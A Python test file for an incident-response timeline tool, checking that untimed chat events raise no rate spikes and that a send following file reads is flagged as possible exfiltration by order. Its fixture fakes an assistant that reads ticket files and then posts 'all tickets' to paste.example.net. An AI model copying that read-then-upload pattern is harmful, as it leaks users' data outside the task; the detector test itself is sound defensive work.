"""What the detectors say about untimed events: order within their trace counts, time does not.

Untimed events are placed at one instant after the timed ones; nothing time-based (rate spikes,
"Ns after reading", a cloud call caused by a tool call within two minutes) may be read into that
placement, and the summary must not show the placement as if it were a time the source gave.
"""

from __future__ import annotations

import json
from pathlib import Path

from ir.timeline.pipeline import build


def _timed_log(path: Path) -> None:
    """Three quiet minutes of a timed tool log (so a typical rate per minute exists)."""
    lines = []
    for minute in range(4):
        for second in range(0, 60, 20):
            lines.append(
                {"ts": f"2026-11-20T03:0{minute}:{second:02d}Z", "tool": "fs.read", "arguments": {"path": "/data/a"}}
            )
    path.write_text("".join(json.dumps(line) + "\n" for line in lines))


def _untimed_chat(path: Path, calls: int) -> None:
    """An exported chat: many reads, then a send to an outside host — no times anywhere."""
    messages: list[dict[str, object]] = [{"role": "user", "content": "summarise the tickets"}]
    for i in range(calls):
        args = {"path": f"/data/ticket-{i}.txt"}
        messages.append(
            {
                "role": "assistant",
                "tool_calls": [{"id": f"c{i}", "function": {"name": "read_file", "arguments": json.dumps(args)}}],
            }
        )
        messages.append({"role": "tool", "tool_call_id": f"c{i}", "content": "ticket text"})
    send = {"url": "https://paste.example.net/upload", "body": "all tickets"}
    messages.append(
        {
            "role": "assistant",
            "tool_calls": [{"id": "s1", "function": {"name": "http_post", "arguments": json.dumps(send)}}],
        }
    )
    path.write_text(json.dumps({"messages": messages}))


def test_untimed_events_raise_no_rate_spike_and_show_as_untimed(tmp_path: Path) -> None:
    _timed_log(tmp_path / "tools.jsonl")
    _untimed_chat(tmp_path / "chat.json", calls=30)
    timeline = build([tmp_path])
    events = list(timeline.events())
    untimed = [e for e in events if e.get("untimed")]
    assert len(untimed) == 61  # 30 calls, 30 results, one send
    assert not [e for e in events if any(t["tag"] == "rate_spike" for t in e["tags"])]
    summary = timeline.summary()
    reads = [r for r in summary["read"] if r.get("untimed")]
    assert reads and all(r["what"].startswith('{"path":"/data/ticket-') for r in reads)
    from ir.timeline.export import summary_text

    assert "sent to: untimed paste.example.net via http_post" in summary_text(summary)


def test_a_send_after_reads_in_the_same_untimed_trace_is_tagged_by_order_not_time(tmp_path: Path) -> None:
    _timed_log(tmp_path / "tools.jsonl")
    _untimed_chat(tmp_path / "chat.json", calls=2)
    timeline = build([tmp_path])
    send = next(e for e in timeline.events() if e["action"] == "http_post")
    whys = [t["why"] for t in send["tags"] if t["tag"] == "exfiltration_candidate"]
    assert whys == [
        'data sent to paste.example.net after reading {"path":"/data/ticket-1.txt"} earlier in the same trace '
        "(it has no times)"
    ]
